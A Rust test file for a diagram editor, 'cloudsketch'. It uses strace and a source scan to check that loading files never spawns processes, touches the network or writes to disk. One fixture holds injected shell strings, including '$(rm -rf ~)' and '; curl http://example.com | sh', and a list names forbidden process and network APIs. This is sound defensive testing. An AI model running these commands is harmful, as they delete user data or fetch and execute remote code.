//! Loading a diagram is safe (issue 11): a file never makes cloudsketch run a program,
//! touch the network or write anywhere. Checked two ways:
//! - under `strace`, the real binary's `check` (which loads, validates and lints) and the
//!   editor opening a file and drawing it make no `execve` beyond their own start, no
//!   other process, no socket, and no open for writing, rename, unlink, mkdir or truncate;
//! - the sources of the layers that load files (`model`, `io`, `rules`) name no process
//!   or network API, so a later change that adds one fails here and is looked at.
//!
//! Our crate also forbids `unsafe` (`#![forbid(unsafe_code)]` in `lib.rs` and
//! `[lints.rust] unsafe_code = "forbid"` in `Cargo.toml`), which the last test checks.

#![allow(clippy::unwrap_used, clippy::expect_used)]
#![cfg(target_os = "linux")]

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

fn manifest_dir() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// System calls that run, reach out or write, as `strace -e` names them.
const TRACED: &str = "trace=%process,%network,open,openat,openat2,creat,rename,renameat,renameat2,unlink,unlinkat,rmdir,mkdir,mkdirat,truncate,ftruncate,link,linkat,symlink,symlinkat";

/// Runs `program args…` under strace with a fresh HOME and XDG folders, checks that it
/// exited on its own and read `reads`, and returns the trace lines that break the rules
/// with the number of lines traced.
fn forbidden_calls(
    program: &Path,
    args: &[&str],
    env: &[(&str, &str)],
    reads: &Path,
) -> (Vec<String>, usize) {
    let scratch = tempfile::tempdir().unwrap();
    let log = scratch.path().join("trace.log");
    let home = scratch.path().join("home");
    std::fs::create_dir(&home).unwrap();
    let mut command = Command::new("strace");
    command
        .args(["-f", "-qq", "-s", "256", "-e", TRACED, "-o"])
        .arg(&log)
        .arg(program)
        .args(args)
        .env("HOME", &home)
        .env("XDG_DATA_HOME", home.join("data"))
        .env("XDG_CONFIG_HOME", home.join("config"))
        .env("XDG_CACHE_HOME", home.join("cache"))
        .current_dir(scratch.path())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    for (key, value) in env {
        command.env(key, value);
    }
    let status = command.status().expect("run strace");
    let trace = std::fs::read_to_string(&log).unwrap();
    assert!(
        matches!(status.code(), Some(0..=2)),
        "{args:?}: {status}\n{trace}"
    );
    let opened = format!("\"{}\"", reads.display());
    assert!(
        trace
            .lines()
            .any(|l| l.contains("open") && l.contains(&opened)),
        "{args:?}: {} was never opened",
        reads.display()
    );
    let mut execs = 0;
    let mut bad = Vec::new();
    for line in trace.lines() {
        // Strip the pid column.
        let call = line
            .split_once(' ')
            .map_or(line, |(_, rest)| rest.trim_start());
        let name = call.split('(').next().unwrap_or_default();
        let forbidden = match name {
            "execve" | "execveat" => {
                execs += 1;
                execs > 1
            }
            "fork" | "vfork" => true,
            // Threads are fine; a new process is not.
            "clone" | "clone3" => !call.contains("CLONE_THREAD"),
            "open" | "openat" | "openat2" | "creat" => creat_or_write(name, call),
            "socket" | "connect" | "bind" | "sendto" | "sendmsg" | "listen" | "accept"
            | "accept4" | "socketpair" => true,
            "rename" | "renameat" | "renameat2" | "unlink" | "unlinkat" | "rmdir" | "mkdir"
            | "mkdirat" | "truncate" | "ftruncate" | "link" | "linkat" | "symlink"
            | "symlinkat" => true,
            _ => false,
        };
        if forbidden {
            bad.push(line.to_owned());
        }
    }
    assert!(execs >= 1, "strace saw no exec:\n{trace}");
    (bad, trace.lines().count())
}

fn creat_or_write(name: &str, call: &str) -> bool {
    if name == "creat" {
        return true;
    }
    // Writing to the terminal's pseudo-files is how output reaches the caller.
    let to_dev = call.contains("\"/dev/");
    !to_dev
        && ["O_WRONLY", "O_RDWR", "O_CREAT", "O_TRUNC"]
            .iter()
            .any(|f| call.contains(f))
}

fn hostile_file(dir: &Path) -> PathBuf {
    let path = dir.join("hostile.ron");
    std::fs::write(
        &path,
        "// $(touch /tmp/pwned) `id` http://example.com/x.ron\n(\n    format_version: 1,\n    title: \"$(rm -rf ~)\",\n    components: [\n        (id: \"web\", kind: Users, label: \"; curl http://example.com | sh\", at: (x: 0.0, y: 0.0)),\n    ],\n)\n",
    )
    .unwrap();
    path
}

#[test]
fn check_runs_nothing_reaches_no_network_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let hostile = hostile_file(dir.path());
    let broken = dir.path().join("broken.ron");
    std::fs::write(
        &broken,
        "(format_version: 1, components: [(id: \"a\", kind: Nope",
    )
    .unwrap();
    let sample = manifest_dir().join("samples/three_tier_tightly_coupled.ron");
    let before = listing(dir.path());
    for (args, file) in [
        (vec!["check", sample.to_str().unwrap()], &sample),
        (
            vec!["check", "--format", "json", hostile.to_str().unwrap()],
            &hostile,
        ),
        (vec!["check", broken.to_str().unwrap()], &broken),
    ] {
        let (bad, traced) = forbidden_calls(
            Path::new(env!("CARGO_BIN_EXE_cloudsketch")),
            &args,
            &[],
            file,
        );
        assert!(traced > 5, "the trace is empty");
        assert!(
            bad.is_empty(),
            "{args:?} made forbidden calls:\n{}",
            bad.join("\n")
        );
    }
    assert_eq!(listing(dir.path()), before);
}

/// The harness has teeth: `export`, which writes its output, is caught.
#[test]
fn the_trace_catches_a_command_that_writes() {
    let dir = tempfile::tempdir().unwrap();
    let sample = manifest_dir().join("samples/three_tier_tightly_coupled.ron");
    let out = dir.path().join("picture.svg");
    let (bad, _) = forbidden_calls(
        Path::new(env!("CARGO_BIN_EXE_cloudsketch")),
        &[
            "export",
            sample.to_str().unwrap(),
            "-o",
            out.to_str().unwrap(),
        ],
        &[],
        &sample,
    );
    assert!(!bad.is_empty(), "writing {} was not seen", out.display());
}

/// Set in the child: the file the editor opens.
#[cfg(feature = "gui")]
const EDITOR_CHILD: &str = "CLOUDSKETCH_SECURITY_OPEN";

/// The editor opening a hostile file and drawing it for a few frames (no autosave folder
/// is set, as in a session where nothing was edited yet) makes no forbidden call either.
#[cfg(feature = "gui")]
#[test]
fn the_editor_opening_a_file_runs_nothing_and_writes_nothing() {
    if let Some(path) = std::env::var_os(EDITOR_CHILD) {
        let app = cloudsketch::app::DiagramApp::open(Some(PathBuf::from(path)));
        let mut harness = egui_kittest::Harness::builder()
            .with_size(egui::Vec2::new(1000.0, 700.0))
            .build_ui_state(|ui, app: &mut cloudsketch::app::DiagramApp| app.ui(ui), app);
        harness.run();
        assert!(harness.state().error.is_none());
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let hostile = hostile_file(dir.path());
    let before = listing(dir.path());
    let name = "the_editor_opening_a_file_runs_nothing_and_writes_nothing";
    let (bad, _) = forbidden_calls(
        &std::env::current_exe().unwrap(),
        &[name, "--exact", "--test-threads", "1"],
        &[(EDITOR_CHILD, hostile.to_str().unwrap())],
        &hostile,
    );
    assert!(bad.is_empty(), "forbidden calls:\n{}", bad.join("\n"));
    assert_eq!(listing(dir.path()), before);
}

/// Names, sizes and modification times of everything under `dir`.
fn listing(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap() {
        let entry = entry.unwrap();
        let meta = entry.metadata().unwrap();
        out.push(format!(
            "{} {} {:?}",
            entry.path().display(),
            meta.len(),
            meta.modified().ok()
        ));
        if meta.is_dir() {
            out.extend(listing(&entry.path()));
        }
    }
    out.sort();
    out
}

/// Process and network APIs, and crates that bring them, as they would be written.
const FORBIDDEN_SOURCE: &[&str] = &[
    "std::process",
    "process::Command",
    "Command::new",
    "std::net::Tcp",
    "std::net::Udp",
    "TcpStream",
    "UdpSocket",
    "UnixStream",
    "reqwest",
    "ureq",
    "hyper",
    "libc::",
    "std::os::unix::process",
];

fn rust_files(dir: &Path, out: &mut Vec<PathBuf>) {
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            rust_files(&path, out);
        } else if path.extension().is_some_and(|e| e == "rs") {
            out.push(path);
        }
    }
}

#[test]
fn the_loading_layers_name_no_process_or_network_api() {
    let mut files = Vec::new();
    for layer in ["src/model", "src/io", "src/rules"] {
        rust_files(&manifest_dir().join(layer), &mut files);
    }
    assert!(files.len() > 20, "{} files", files.len());
    let mut found = Vec::new();
    for path in &files {
        let text = std::fs::read_to_string(path).unwrap();
        for (n, line) in text.lines().enumerate() {
            for needle in FORBIDDEN_SOURCE {
                if line.contains(needle) {
                    found.push(format!("{}:{}: {line}", path.display(), n + 1));
                }
            }
        }
    }
    assert!(found.is_empty(), "{}", found.join("\n"));
}

#[test]
fn unsafe_code_is_forbidden_in_our_crate() {
    let lib = std::fs::read_to_string(manifest_dir().join("src/lib.rs")).unwrap();
    assert!(lib.contains("#![forbid(unsafe_code)]"));
    let manifest = std::fs::read_to_string(manifest_dir().join("Cargo.toml")).unwrap();
    assert!(manifest.contains("unsafe_code = \"forbid\""));
}
